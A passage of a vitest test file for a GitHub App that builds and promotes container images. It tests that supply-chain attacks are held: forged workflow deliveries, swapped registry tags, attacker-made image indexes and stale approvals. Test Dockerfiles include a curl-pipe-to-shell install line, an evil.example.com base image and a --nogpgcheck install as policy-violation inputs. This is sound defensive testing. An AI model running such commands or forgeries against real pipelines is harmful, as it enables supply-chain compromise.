/**
 * Reliability, "custody": attacks on the chain from reviewed code to a promotable build, tried against the App,
 * the shipped workflows (run by the fake Actions, the stand-in Action pushing to a real loopback registry) and
 * that registry. Each case is an attacker's move: a job that lies about its digest, a publish that lies about its
 * index or leaves an arch out, a token holder moving the candidate tags, a run flibs did not dispatch closing
 * checks, a merge of a build that did not pass everywhere, an approval for another commit, a push by an outsider
 * to a writer's fork, a `# flibs-ignore` of a rule the organisation does not let be waived. Held = nothing
 * promotable (no index marker in flibs/build, no dispatch of the promote caller: the only path to a stable write),
 * and the check says why. Variants run in copies of one repository at once where the world allows.
 */
import { createHash, randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import { beforeEach, describe, expect, test } from "vitest";
import { parseIndexMarker } from "../../src/core/report/index-marker.js";
import { formatPlanMarker, parsePlanMarker } from "../../src/core/report/plan-marker.js";
import type { Delivery, RunRecord } from "../helpers/actions/index.js";
import { createTestApp, examplePayload, TEST_APP_ID, type FakeCheckRun, type GitHubRequest, type TestApp } from "../helpers/github.js";
import { useRegistry } from "../helpers/use-registry.js";
import { failOnUnhandledRejections } from "../helpers/unhandled.js";
import { runners, useWorld, type StandIn } from "../helpers/world.js";
import { tally } from "./ledger.js";

const AREA = "custody";
const REPO = "my-org/hello";
const PR = 7;
const ARCHES = ["x86_64", "aarch64"] as const;
const DISPATCH = "POST /repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches";
const DOCKERFILE = readFileSync(new URL("../fixtures/webhooks/good/Dockerfile", import.meta.url), "utf8");
const IMAGE = "my-org/hello";
const MANIFEST = "application/vnd.oci.image.manifest.v1+json";
const INDEX = "application/vnd.oci.image.index.v1+json";

const registry = useRegistry();
// Six runners of each kind: the variants' runs go on at once (with three, the file took half as long again).
const world = useWorld({ runners: runners(6) });
failOnUnhandledRejections();
let app: TestApp;

const policyText = (extra = "") =>
  `arches: [x86_64, aarch64]\nregistries:\n  candidate: ${registry.host}/candidates\n  stable: ${registry.host}/stable\n${extra}`;

beforeEach(async () => {
  world.policy(policyText());
  await world.repo(REPO, { Dockerfile: DOCKERFILE, "container.yaml": `image: ${IMAGE}\n` });
  world.role("member", "write").role("outsider", "read").role("triager", "triage").role("stranger", "none");
  await world.standIn({ push: true });
  app = await createTestApp();
});

// ---- helpers ------------------------------------------------------------------------------------------------

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const slug = (s: string) =>
  s
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "-")
    .replace(/^-|-$/g, "")
    .slice(0, 24);
let copies = 0;
const dispatchesTo = (repo: string, workflow: string) =>
  world.github
    .calls(DISPATCH)
    .filter(
      (r: GitHubRequest) => `${r.params.owner}/${r.params.repo}`.toLowerCase() === repo.toLowerCase() && r.params.workflow_id === workflow,
    )
    .map((r) => (r.body as { inputs: Record<string, string> }).inputs);
const state = (c: FakeCheckRun | undefined) => (c ? `${c.status}/${c.conclusion ?? "-"}` : "absent");

async function until(what: string, probe: () => boolean, timeoutMs = 30_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!probe()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await sleep(20);
  }
}

/**
 * A copy of the container repository for one variant, with a PR whose head is a commit of its own (its images
 * and tags in the shared candidate repository are its own too: the stand-in's digests follow the commit).
 */
async function variantRepo(
  variant: string,
  pull: { author?: string; fork?: string; files?: Record<string, string> } = {},
  org = "my-org",
): Promise<{ repo: string; head: string }> {
  const repo = `${org}/hello-${++copies}-${slug(variant)}`;
  await world.copyRepo(REPO, repo);
  const head = await world.commit({ "variant.txt": `${variant}\n`, ...pull.files }, { repo, branch: `pr-${PR}` });
  world.pull({ repo, number: PR, head, author: pull.author ?? "member", ...(pull.fork ? { fork: pull.fork } : {}) });
  return { repo, head };
}

/** The PR's head built through the App (its run's deliveries handed over as they happen, unless `deliver` is false). */
async function buildAll(repos: readonly string[], deliver = true): Promise<void> {
  world.deliverTo(deliver ? app : undefined);
  await Promise.all(repos.map((repo) => app.receive("pull_request", world.pullEvent(PR, "synchronize", { repo, sender: "member" }))));
  await world.settled();
}

/** Merges the PR into main with its head's tree, and delivers the push: the App's promotion on merge. */
async function mergeAndPush(repo: string, variant: string): Promise<string> {
  const merge = await world.commit({ "variant.txt": `${variant}\n` }, { repo, message: `Merge pull request #${PR}` });
  world.merge(PR, merge, repo);
  await app.receive("push", await world.pushEvent("refs/heads/main", merge, { repo }));
  return merge;
}

const sha256 = (bytes: Buffer) => `sha256:${createHash("sha256").update(bytes).digest("hex")}`;

async function put(method: string, url: string, body?: Buffer, headers: Record<string, string> = {}): Promise<Response> {
  const res = await fetch(url, { method, ...(body ? { body } : {}), headers });
  if (res.status >= 300) throw new Error(`${method} ${url}: ${res.status} ${await res.text()}`);
  return res;
}

async function pushBlob(bytes: Buffer): Promise<string> {
  const digest = sha256(bytes);
  const started = await put("POST", `${registry.url}/v2/candidates/${IMAGE}/blobs/uploads/`);
  const location = new URL(started.headers.get("location")!, registry.url);
  location.searchParams.set("digest", digest);
  await put("PUT", location.toString(), bytes, { "content-type": "application/octet-stream" });
  return digest;
}

/** Writes `bytes` as a manifest under `ref` (a tag: what a token holder with push access can do). */
async function pushManifest(bytes: Buffer, mediaType: string, ref: string): Promise<string> {
  await put("PUT", `${registry.url}/v2/candidates/${IMAGE}/manifests/${ref}`, bytes, { "content-type": mediaType });
  return sha256(bytes);
}

/** An image the attacker made (one arch), pushed by digest; returns its manifest bytes and digest. */
async function foreignImage(seed: string, arch: string): Promise<{ bytes: Buffer; digest: string }> {
  const layer = Buffer.from(`attacker's layer ${seed} ${arch}\n`);
  const config = Buffer.from(
    JSON.stringify({
      architecture: arch === "x86_64" ? "amd64" : "arm64",
      os: "linux",
      rootfs: { type: "layers", diff_ids: [sha256(layer)] },
    }),
  );
  const [c, l] = [await pushBlob(config), await pushBlob(layer)];
  const bytes = Buffer.from(
    JSON.stringify({
      schemaVersion: 2,
      mediaType: MANIFEST,
      config: { mediaType: "application/vnd.oci.image.config.v1+json", digest: c, size: config.length },
      layers: [{ mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", digest: l, size: layer.length }],
    }),
  );
  return { bytes, digest: await pushManifest(bytes, MANIFEST, sha256(bytes)) };
}

/** An index of the attacker's images for both arches, pushed by digest (and under `tags`). */
async function foreignIndex(seed: string, tags: string[] = []): Promise<string> {
  const manifests = [];
  for (const arch of ARCHES) {
    const img = await foreignImage(seed, arch);
    manifests.push({
      mediaType: MANIFEST,
      digest: img.digest,
      size: img.bytes.length,
      platform: { architecture: arch === "x86_64" ? "amd64" : "arm64", os: "linux" },
    });
  }
  const bytes = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: INDEX, manifests }));
  for (const ref of [sha256(bytes), ...tags]) await pushManifest(bytes, INDEX, ref);
  return sha256(bytes);
}

/** What a tag points at now, as the registry answers. */
async function tagDigest(tag: string): Promise<string | null> {
  const res = await fetch(`${registry.url}/v2/candidates/${IMAGE}/manifests/${tag}`, {
    method: "HEAD",
    headers: { accept: `${INDEX}, ${MANIFEST}` },
  });
  return res.status === 200 ? res.headers.get("docker-content-digest") : null;
}

async function indexChildren(digest: string): Promise<Record<string, string>> {
  const res = await fetch(`${registry.url}/v2/candidates/${IMAGE}/manifests/${digest}`, { headers: { accept: INDEX } });
  const index = (await res.json()) as { manifests: Array<{ digest: string; platform: { architecture: string } }> };
  return Object.fromEntries(index.manifests.map((m) => [m.platform.architecture === "amd64" ? "x86_64" : "aarch64", m.digest]));
}

/** The digest each arch job of a run output (what it built and tested) and the index its publish job output. */
function runOutputs(run: RunRecord): { arches: Record<string, string>; index: string | undefined } {
  const arches: Record<string, string> = {};
  for (const j of run.jobs) {
    const m = /build \((\w+)\)/.exec(j.name);
    if (m && j.outputs[`digest-${m[1]}`]) arches[m[1]!] = j.outputs[`digest-${m[1]}`]!;
  }
  return { arches, index: run.jobs.find((j) => / publish /.test(`${j.name} `))?.outputs["index-digest"] };
}

/**
 * Merges every variant's PR (its head's tree) and delivers the pushes, then lets whatever that started run to
 * its end (a merge whose tested build did not pass is built first, and its own build is the same attack).
 */
async function mergeAll(variants: ReadonlyArray<{ repo: string; variant: string }>): Promise<Map<string, string>> {
  world.deliverTo(app);
  const merges = new Map<string, string>();
  await Promise.all(variants.map(async (v) => merges.set(v.repo, await mergeAndPush(v.repo, v.variant))));
  await world.settled();
  // GitHub tells the App when its own flibs/build of a merge commit completes (check_run.completed); the world's
  // Actions deliver only workflow events, so that delivery is made here, as promote.test.ts does.
  for (const [repo, merge] of merges) {
    const build = world.shown(merge, "flibs/build", repo);
    if (build?.status !== "completed") continue;
    const payload = examplePayload("check_run", "completed", {
      repo,
      installationId: world.installationId,
      headSha: merge,
      edit: (p) => {
        Object.assign(p.check_run, {
          id: build.id,
          name: "flibs/build",
          status: build.status,
          conclusion: build.conclusion,
          external_id: build.external_id,
        });
        p.check_run.app = { ...p.check_run.app, id: TEST_APP_ID };
      },
    });
    await app.receive("check_run", payload);
  }
  return merges;
}

/**
 * A build whose result must not be promotable: flibs/build closed not success, no index marker, the summary
 * says why (`why`), and its merge dispatched no promotion. Returns what was seen when it was not held.
 */
function heldUnpromotable(v: { repo: string; head: string; variant: string }, merge: string | undefined, why: RegExp): string | undefined {
  const s = world.shown(v.head, "flibs/build", v.repo);
  const seen = `${v.variant}: flibs/build ${state(s)}: ${s?.title} / ${s?.summary?.slice(0, 300)}`;
  const promoted = dispatchesTo(v.repo, "flibs-promote.yml");
  const promote = merge ? world.shown(merge, "flibs/promote (main)", v.repo) : undefined;
  if (s?.status !== "completed" || s.conclusion === "success") return seen;
  if (parseIndexMarker(s.summary) !== undefined) return `${seen} (an index marker)`;
  if (!why.test(s.summary ?? "")) return `${seen} (does not say ${why})`;
  if (promoted.length) return `${seen} (promotion dispatched: ${JSON.stringify(promoted)})`;
  if (promote?.conclusion !== "failure" || !/^Not promoted/.test(promote.title ?? ""))
    return `${seen} (flibs/promote ${state(promote)}: ${promote?.title})`;
  return undefined;
}

async function ledger<T extends { variant: string }>(
  what: string,
  cases: readonly T[],
  check: (c: T) => Promise<string | undefined>,
): Promise<string[]> {
  const lost: string[] = [];
  await tally(AREA, what, cases, async (c) => {
    const seen = await check(c);
    if (seen) lost.push(seen);
    return seen === undefined;
  });
  return lost;
}

// ---- 1-3: what the jobs report ---------------------------------------------------------------------------

describe("a job that reports what it did not build, test or publish", () => {
  test("an arch job reporting a digest other than the one it built and tested: flibs/build fails, nothing promotable", async () => {
    const lie = (n: number) => `sha256:${createHash("sha256").update(`never built ${n}`).digest("hex")}`;
    const cases = [
      { variant: "x86_64 reports another digest", report: { x86_64: lie(1) } },
      { variant: "aarch64 reports another digest", report: { aarch64: lie(2) } },
      { variant: "both report other digests", report: { x86_64: lie(3), aarch64: lie(4) } },
    ];
    const repos = await Promise.all(cases.map(async (c) => ({ ...c, ...(await variantRepo(`arch lie ${c.variant}`)) })));
    const standIn: StandIn = { push: true, repos: {} };
    for (const c of repos) standIn.repos![c.repo] = { report: c.report as Record<string, string> };
    await world.standIn(standIn);
    await buildAll(repos.map((c) => c.repo));
    const merges = await mergeAll(repos);
    const lost = await ledger("an arch job reports a digest it did not build and test", repos, async (c) =>
      heldUnpromotable(c, merges.get(c.repo), /does not hold what was tested/),
    );
    expect(lost).toEqual([]);
  }, 90_000);
});

describe("a publish job that reports another index, or leaves an arch out", () => {
  test("the index publish reports is not the one made of the tested digests: flibs/build fails, nothing promotable", async () => {
    // What the attacker can point publish's report at: an index of its own, one arch image, a digest of nothing.
    const foreign = await foreignIndex("publish report");
    const single = (await foreignImage("publish report single", "x86_64")).digest;
    const cases = [
      { variant: "publish reports the attacker's index", publish: { report: foreign }, why: /does not hold what was tested/ },
      { variant: "publish reports a single-arch image", publish: { report: single }, why: /single-arch manifest, not an index/ },
      { variant: "publish reports a digest nothing has", publish: { report: `sha256:${"d".repeat(64)}` }, why: /index could not be read/ },
      { variant: "publish leaves out x86_64", publish: { leave_out: ["x86_64"] }, why: /the index holds no x86(_|&#95;)64 image/ },
      { variant: "publish leaves out aarch64", publish: { leave_out: ["aarch64"] }, why: /the index holds no aarch64 image/ },
    ];
    const repos = await Promise.all(cases.map(async (c) => ({ ...c, ...(await variantRepo(c.variant)) })));
    await world.standIn({ push: true, repos: Object.fromEntries(repos.map((c) => [c.repo, { publish: c.publish }])) });
    await buildAll(repos.map((c) => c.repo));
    const merges = await mergeAll(repos);
    const lost = await ledger("publish reports another index or leaves an arch out", repos, async (c) =>
      heldUnpromotable(c, merges.get(c.repo), c.why),
    );
    expect(lost).toEqual([]);
  }, 120_000);
});

// ---- 4: a moved tag ---------------------------------------------------------------------------------------

describe("a token holder moves the candidate tags after the build", () => {
  test("the App records, and a merge promotes, the index made of the tested digests, never what a tag points at", async () => {
    const archTag = (head: string, arch: string) => `sha-${head}-${arch}`;
    const cases = [
      { variant: "sha tag moved before the run's completion reached the App", tags: (h: string) => [`sha-${h}`], after: false },
      {
        variant: "x86_64 tag moved before the run's completion reached the App",
        tags: (h: string) => [archTag(h, "x86_64")],
        after: false,
      },
      {
        variant: "aarch64 tag moved before the run's completion reached the App",
        tags: (h: string) => [archTag(h, "aarch64")],
        after: false,
      },
      {
        variant: "every tag moved before the run's completion reached the App",
        tags: (h: string) => [`sha-${h}`, `pr-${PR}-${h.slice(0, 7)}`, ...ARCHES.map((a) => archTag(h, a))],
        after: false,
      },
      {
        variant: "every tag moved after flibs/build closed, before the merge",
        tags: (h: string) => [`sha-${h}`, `pr-${PR}-${h.slice(0, 7)}`, ...ARCHES.map((a) => archTag(h, a))],
        after: true,
      },
    ];
    const repos = await Promise.all(cases.map(async (c) => ({ ...c, ...(await variantRepo(c.variant)) })));
    // The runs' deliveries are held back, so the tags move between publish and the App's reading of the run.
    await buildAll(
      repos.map((c) => c.repo),
      false,
    );
    const moved = new Map<string, Record<string, string>>();
    const move = async (c: (typeof repos)[number]) => {
      const to: Record<string, string> = {};
      for (const tag of c.tags(c.head)) {
        if (/-(x86_64|aarch64)$/.test(tag)) {
          const img = await foreignImage(`${c.variant} ${tag}`, tag.endsWith("x86_64") ? "x86_64" : "aarch64");
          to[tag] = await pushManifest(img.bytes, MANIFEST, tag);
        } else to[tag] = await foreignIndex(`${c.variant} ${tag}`, [tag]);
      }
      moved.set(c.repo, to);
    };
    const run = (c: (typeof repos)[number]) => world.buildRun(`${c.head}.1`, c.repo);
    for (const c of repos) if (!c.after) await move(c);
    for (const c of repos) await world.replay(world.deliveriesOf(run(c)), app);
    for (const c of repos) if (c.after) await move(c);
    const merges = await mergeAll(repos);

    const lost = await ledger("candidate tags moved after the build", repos, async (c) => {
      const out = runOutputs(run(c));
      const s = world.shown(c.head, "flibs/build", c.repo);
      const recorded = parseIndexMarker(s?.summary);
      const promoted = dispatchesTo(c.repo, "flibs-promote.yml").map((i) => i.digest);
      const seen = `${c.variant}: flibs/build ${state(s)} recorded ${recorded}, publish output ${out.index}, promoted ${JSON.stringify(promoted)}, moved ${JSON.stringify(moved.get(c.repo))}`;
      for (const [tag, digest] of Object.entries(moved.get(c.repo)!))
        if ((await tagDigest(tag)) !== digest) return `${seen} (${tag} did not move: the case tried nothing)`;
      if (s?.conclusion !== "success" || !recorded || recorded !== out.index) return seen;
      if (Object.values(moved.get(c.repo)!).includes(recorded)) return `${seen} (a moved tag's digest recorded)`;
      if (JSON.stringify(await indexChildren(recorded)) !== JSON.stringify(out.arches))
        return `${seen} (children ${JSON.stringify(await indexChildren(recorded))} are not the tested ${JSON.stringify(out.arches)})`;
      if (promoted.length !== 1 || promoted[0] !== recorded) return seen;
      if (world.shown(merges.get(c.repo)!, "flibs/promote (main)", c.repo)?.summary?.includes(recorded) !== true)
        return `${seen} (flibs/promote does not name it)`;
      return undefined;
    });
    expect(lost).toEqual([]);
  }, 120_000);
});

// ---- 5: a run flibs did not dispatch ------------------------------------------------------------------------

describe("a run the App did not dispatch, named like flibs' own", () => {
  test("its jobs' and its run's success close nothing: the arch checks stay in progress, flibs/build open", async () => {
    const { repo, head } = await variantRepo("forged run");
    await world.standIn({ push: true, hold: [...ARCHES] });
    world.deliverTo(app);
    await app.receive("pull_request", world.pullEvent(PR, "synchronize", { repo, sender: "member" }));
    const run = world.buildRun(`${head}.1`, repo);
    await until("both arch checks in progress", () =>
      ARCHES.every((a) => world.shown(head, `flibs/build (${a})`, repo)?.status === "in_progress"),
    );
    const jobEvents = ARCHES.map((arch) =>
      world.deliveriesOf(run, { event: "workflow_job", job: new RegExp(`build \\(${arch}\\)`) }).at(-1)!,
    );
    const runEvent = world.deliveriesOf(run, { event: "workflow_run" }).at(-1)!;

    // A fork's own pull_request workflow (or a run started by hand) can give its run and jobs flibs' names; what it
    // cannot choose is the run id GitHub gives it, nor the event, workflow file and actor GitHub records.
    const forgeries = [
      { what: "another run id", event: "workflow_dispatch", path: run.path, actor: run.actor },
      { what: "another run id, event pull_request", event: "pull_request", path: run.path, actor: run.actor },
      { what: "another run id, another workflow file", event: "workflow_dispatch", path: ".github/workflows/ci.yml", actor: run.actor },
      { what: "a fork's pull_request run", event: "pull_request", path: ".github/workflows/ci.yml", actor: "outsider" },
    ].map((f, i) => ({ ...f, runId: run.id + 1000 + i }));
    const cases = forgeries.flatMap((f) => [
      ...ARCHES.map((arch) => ({ variant: `${f.what}: build (${arch}) completed success`, f, arch: arch as string | undefined })),
      { variant: `${f.what}: run completed success`, f, arch: undefined },
    ]);

    const held = () => {
      const arches = ARCHES.map((a) => state(world.shown(head, `flibs/build (${a})`, repo)));
      const summary = state(world.shown(head, "flibs/build", repo));
      return arches.some((a) => a !== "in_progress/-") || summary.startsWith("completed")
        ? `arches ${arches.join(", ")}, flibs/build ${summary}`
        : undefined;
    };
    const forge = async (c: (typeof cases)[number]): Promise<string | undefined> => {
      const now = new Date().toISOString().replace(/\.\d+Z$/, "Z");
      const html = `https://github.com/${repo}/actions/runs/${c.f.runId}`;
      let d: Delivery;
      if (c.arch) {
        d = structuredClone(jobEvents[ARCHES.indexOf(c.arch as (typeof ARCHES)[number])]!);
        Object.assign(d.payload.workflow_job, {
          id: c.f.runId * 10 + ARCHES.indexOf(c.arch as (typeof ARCHES)[number]),
          run_id: c.f.runId,
          run_url: `https://api.github.com/repos/${repo}/actions/runs/${c.f.runId}`,
          html_url: `${html}/job/1`,
          status: "completed",
          conclusion: "success",
          completed_at: now,
        });
      } else {
        d = structuredClone(runEvent);
        const actor = { ...d.payload.workflow_run.actor, login: c.f.actor };
        Object.assign(d.payload.workflow_run, {
          id: c.f.runId,
          html_url: html,
          event: c.f.event,
          path: c.f.path,
          status: "completed",
          conclusion: "success",
          updated_at: now,
          actor,
          triggering_actor: actor,
        });
      }
      d.payload.action = "completed";
      await app.receive(d.event, d.payload, randomUUID());
      const seen = held();
      return seen && `${c.variant}: ${seen}`;
    };
    const lost = await ledger("a run flibs did not dispatch reports success", cases, forge);
    expect(lost).toEqual([]);

    // GitHub Enterprise Server 3.20 and older answer a dispatch without the run's id, so flibs/build records none
    // and a run is flibs' only as a workflow_dispatch of the policy's caller that the App itself started. The same
    // build as such an App leaves it (no run id in its plan), and a run's completion forged on each of those facts:
    // a writer can dispatch flibs.yml by hand with the same run name.
    const summary = world.shown(head, "flibs/build", repo)!;
    const { run: recordedRun, ...plan } = parsePlanMarker(summary.summary)!;
    expect(recordedRun).toBe(run.id);
    summary.summary = summary.summary!.replace(formatPlanMarker({ ...plan, run: recordedRun }), formatPlanMarker(plan));
    const unrecorded = [
      { what: "no run id recorded: event pull_request", event: "pull_request", path: run.path, actor: run.actor },
      { what: "no run id recorded: another workflow file", event: "workflow_dispatch", path: ".github/workflows/ci.yml", actor: run.actor },
      { what: "no run id recorded: flibs.yml dispatched by a writer", event: "workflow_dispatch", path: run.path, actor: "member" },
      { what: "no run id recorded: a fork's pull_request run", event: "pull_request", path: ".github/workflows/ci.yml", actor: "outsider" },
    ].map((f, i) => ({
      variant: `${f.what}: run completed success`,
      f: { ...f, runId: run.id + 2000 + i },
      arch: undefined as string | undefined,
    }));
    expect(parsePlanMarker(world.shown(head, "flibs/build", repo)!.summary)?.run).toBeUndefined();
    expect(await ledger("a run flibs did not dispatch reports success, no run id recorded (GHES)", unrecorded, forge)).toEqual([]);

    // The run flibs did dispatch still closes them: the App was listening all along.
    await world.standIn({ push: true });
    await world.settled();
    expect(ARCHES.map((a) => state(world.shown(head, `flibs/build (${a})`, repo)))).toEqual(["completed/success", "completed/success"]);
    expect(state(world.shown(head, "flibs/build", repo))).toBe("completed/success");
  }, 90_000);
});

// ---- 6: a merge of a build that did not pass everywhere -----------------------------------------------------

describe("a merge of a PR whose build did not pass on every arch", () => {
  test("no promotion dispatch, flibs/promote says why", async () => {
    const archCheck = (repo: string, head: string, arch: string) => world.shown(head, `flibs/build (${arch})`, repo)!;
    const drop = (c: FakeCheckRun) => world.github.checkRuns.splice(world.github.checkRuns.indexOf(c), 1);
    // Recorded as the build flow leaves a passed build, then changed as the attack needs (an arch check gone,
    // failed by a later re-run, or never finished), flibs/build still saying success with its index.
    const recorded = [
      { variant: "no per-arch checks at all", change: (r: string, h: string) => ARCHES.forEach((a) => drop(archCheck(r, h, a))) },
      ...ARCHES.map((arch) => ({ variant: `no ${arch} check`, change: (r: string, h: string) => void drop(archCheck(r, h, arch)) })),
      ...ARCHES.map((arch) => ({
        variant: `${arch} check failed after flibs/build closed`,
        change: (r: string, h: string) => void Object.assign(archCheck(r, h, arch), { conclusion: "failure" }),
      })),
      ...ARCHES.map((arch) => ({
        variant: `${arch} check still in progress`,
        change: (r: string, h: string) =>
          void Object.assign(archCheck(r, h, arch), { status: "in_progress", conclusion: null, completed_at: null }),
      })),
    ];
    const built = ARCHES.map((arch) => ({ variant: `the build failed on ${arch}`, arch }));
    const repos = await Promise.all([...recorded, ...built].map(async (c) => ({ ...c, ...(await variantRepo(c.variant)) })));
    for (const c of repos) {
      if (!("change" in c)) continue;
      world.recordBuild(c.head, { repo: c.repo, pr: PR });
      c.change(c.repo, c.head);
    }
    const real = repos.filter((c) => "arch" in c) as Array<(typeof repos)[number] & { arch: string }>;
    await world.standIn({ push: true, repos: Object.fromEntries(real.map((c) => [c.repo, { fail: [c.arch] }])) });
    await buildAll(real.map((c) => c.repo));
    const merges = await mergeAll(repos);

    const lost = await ledger("a merge of a build not passed on every arch", repos, async (c) => {
      const promote = world.shown(merges.get(c.repo)!, "flibs/promote (main)", c.repo);
      const promoted = dispatchesTo(c.repo, "flibs-promote.yml");
      const seen = `${c.variant}: flibs/promote ${state(promote)} ${promote?.title}, dispatches ${JSON.stringify(promoted)}`;
      if (promoted.length || world.deployments.some((d) => d.repo === c.repo)) return seen;
      if (promote?.conclusion !== "failure" || !/^Not promoted/.test(promote.title ?? "")) return seen;
      return undefined;
    });
    expect(lost).toEqual([]);
  }, 90_000);
});

// ---- 7-8: approval of untrusted code ------------------------------------------------------------------------

describe("approving a fork's code", () => {
  test("/ok-to-test naming another commit than the head, or written before a force-push: nothing built", async () => {
    world.policy(policyText("build:\n  ok_to_test_sha: required\n"), "strict-org");
    const cases = [
      {
        variant: "ok-to-test names the commit read before a force-push (12 digits)",
        body: (a: string) => `/ok-to-test ${a.slice(0, 12)}`,
        why: /is not the head of this pull request/,
      },
      {
        variant: "ok-to-test names the commit read before a force-push (40 digits)",
        body: (a: string) => `/ok-to-test ${a}`,
        why: /is not the head of this pull request/,
      },
      {
        variant: "ok-to-test names the commit read before a force-push (7 digits)",
        body: (a: string) => `/ok-to-test ${a.slice(0, 7)}`,
        why: /is not the head of this pull request/,
      },
      {
        variant: "ok-to-test names a commit that is nothing",
        body: () => "/ok-to-test deadbeefcafe",
        why: /is not the head of this pull request/,
      },
      {
        variant: "bare ok-to-test written before the force-push",
        body: () => "/ok-to-test",
        why: /written before .* was pushed/,
        before: true,
      },
      {
        variant: "bare ok-to-test where policy requires the sha",
        body: () => "/ok-to-test",
        why: /name the commit you reviewed/,
        org: "strict-org",
      },
    ];
    const repos = await Promise.all(
      cases.map(async (c) => {
        const { repo, head } = await variantRepo(c.variant, { author: "outsider", fork: "outsider/hello" }, c.org);
        return {
          ...c,
          repo,
          read: head,
          head: await world.commit({ "variant.txt": `${c.variant}, forced\n` }, { repo, branch: `pr-${PR}` }),
        };
      }),
    );
    world.deliverTo(app);
    await Promise.all(
      repos.map(async (c) => {
        world.pull({ repo: c.repo, number: PR, head: c.read, author: "outsider", fork: "outsider/hello" });
        await app.receive("pull_request", world.pullEvent(PR, "opened", { repo: c.repo }));
        // The reviewer reads c.read and types; the author force-pushes meanwhile; the comment arrives after.
        const comment = world.commentEvent(PR, c.body(c.read), "member", {
          repo: c.repo,
          edit: (p) => c.before && (p.comment.created_at = p.comment.updated_at = "2020-01-01T00:00:00Z"),
        });
        world.pushTo(PR, c.head, c.repo);
        await app.receive("pull_request", world.pullEvent(PR, "synchronize", { repo: c.repo, sender: "outsider" }));
        await app.receive("issue_comment", comment);
      }),
    );
    const lost = await ledger("an approval that does not name the head", repos, async (c) => {
      const gate = world.shown(c.head, "flibs/build", c.repo);
      const reply = world.comments.filter((m) => m.repo === c.repo).at(-1)?.body ?? "";
      const seen = `${c.variant}: dispatches ${JSON.stringify(dispatchesTo(c.repo, "flibs.yml"))}, flibs/build ${state(gate)}, reply ${reply}`;
      if (dispatchesTo(c.repo, "flibs.yml").length || gate?.conclusion !== "action_required" || !c.why.test(reply)) return seen;
      return undefined;
    });
    expect(lost).toEqual([]);
    // The head named by a member is built: the refusals above were about the commit, not the reviewer.
    const first = repos[0]!;
    await app.receive("issue_comment", world.commentEvent(PR, `/ok-to-test ${first.head.slice(0, 12)}`, "member", { repo: first.repo }));
    expect(dispatchesTo(first.repo, "flibs.yml").map((i) => i.sha)).toEqual([first.head]);
  }, 60_000);

  test("a writer's fork PR pushed to by someone without write access: the new head waits for approval", async () => {
    const senders = ["outsider", "triager", "stranger"];
    const repos = await Promise.all(
      [...senders, "member"].map(async (sender) => ({
        sender,
        variant: `push by ${sender}`,
        ...(await variantRepo(`writer fork pushed by ${sender}`, { author: "member", fork: "member/hello" })),
      })),
    );
    world.deliverTo(undefined);
    const pushed = new Map<string, string>();
    await Promise.all(
      repos.map(async (c) => {
        await app.receive("pull_request", world.pullEvent(PR, "opened", { repo: c.repo }));
        const next = await world.commit({ "variant.txt": `pushed by ${c.sender}\n` }, { repo: c.repo, branch: `pr-${PR}` });
        pushed.set(c.repo, next);
        world.pushTo(PR, next, c.repo);
        await app.receive("pull_request", world.pullEvent(PR, "synchronize", { repo: c.repo, sender: c.sender }));
      }),
    );
    const built = (c: (typeof repos)[number]) => dispatchesTo(c.repo, "flibs.yml").map((i) => i.sha);
    const next = (c: (typeof repos)[number]) => pushed.get(c.repo)!;
    const attacks = repos.filter((c) => c.sender !== "member");
    const lost = await ledger("a push to a writer's fork by someone without write access", attacks, async (c) => {
      const gate = world.shown(next(c), "flibs/build", c.repo);
      const seen = `${c.variant}: built ${JSON.stringify(built(c))}, flibs/build on the new head ${state(gate)}`;
      if (built(c).includes(next(c)) || gate?.conclusion !== "action_required") return seen;
      return undefined;
    });
    expect(lost).toEqual([]);
    // The writer's own push builds at once (and its first head did in every copy): the fork itself is trusted.
    const own = repos.find((c) => c.sender === "member")!;
    expect(built(own)).toEqual([own.head, next(own)]);
    for (const c of attacks) expect(built(c)).toEqual([c.head]);
  }, 60_000);
});

// ---- 9: waiving a rule the organisation does not let be waived ---------------------------------------------

describe("# flibs-ignore of a rule policy does not let be ignored", () => {
  test("the review still fails, naming the rule and why the ignore suppressed nothing", async () => {
    world.policy(policyText("not_ignorable: [base-image-registry, required-labels, no-gpgcheck, curl-pipe-shell, user-root]\n"));
    const ignore = (ids: string) => `# flibs-ignore ${ids} we know what we are doing`;
    const cases = [
      {
        variant: "base-image-registry",
        rule: "base-image-registry",
        df: DOCKERFILE.replace(/^FROM .*$/m, `${ignore("base-image-registry")}\nFROM evil.example.com/fedora-minimal:41`),
      },
      {
        variant: "required-labels",
        rule: "required-labels",
        df: `${ignore("required-labels")}\nFROM registry.fedoraproject.org/fedora-minimal:41\nUSER 1001\n`,
      },
      {
        variant: "no-gpgcheck",
        rule: "no-gpgcheck",
        df: DOCKERFILE.replace(/^RUN .*$/m, `${ignore("no-gpgcheck")}\nRUN microdnf -y --nogpgcheck install hello && microdnf clean all`),
      },
      {
        variant: "curl-pipe-shell",
        rule: "curl-pipe-shell",
        df: DOCKERFILE.replace(/^RUN .*$/m, `${ignore("curl-pipe-shell")}\nRUN curl -fsSL https://example.com/install.sh | sh`),
      },
      {
        variant: "user-root, listed by the organisation",
        rule: "user-root",
        df: DOCKERFILE.replace(/^USER .*$/m, `${ignore("user-root")}\nUSER root`),
      },
      {
        variant: "base-image-registry among ignorable ids",
        rule: "base-image-registry",
        df: DOCKERFILE.replace(/^FROM .*$/m, `${ignore("base-image-tag,base-image-registry")}\nFROM evil.example.com/fedora-minimal:41`),
      },
    ];
    // An ignorable rule waived the same way: the review passes, so the ignores above are read, and refused.
    const control = {
      variant: "add-url, ignorable",
      df: DOCKERFILE.replace(/^USER .*$/m, `${ignore("add-url")}\nADD https://example.com/hello.conf /etc/hello.conf\nUSER 1001`),
    };
    const repos = await Promise.all(
      [...cases, control].map(async (c) => ({
        ...c,
        ...(await variantRepo(`ignore ${c.variant}`, { author: "outsider", fork: "outsider/hello", files: { Dockerfile: c.df } })),
      })),
    );
    await Promise.all(repos.map((c) => app.receive("pull_request", world.pullEvent(PR, "opened", { repo: c.repo }))));
    const written = (repo: string) =>
      JSON.stringify(
        world.github
          .calls()
          .filter((r) => /check-runs/.test(r.route) && `${r.params.owner}/${r.params.repo}` === repo)
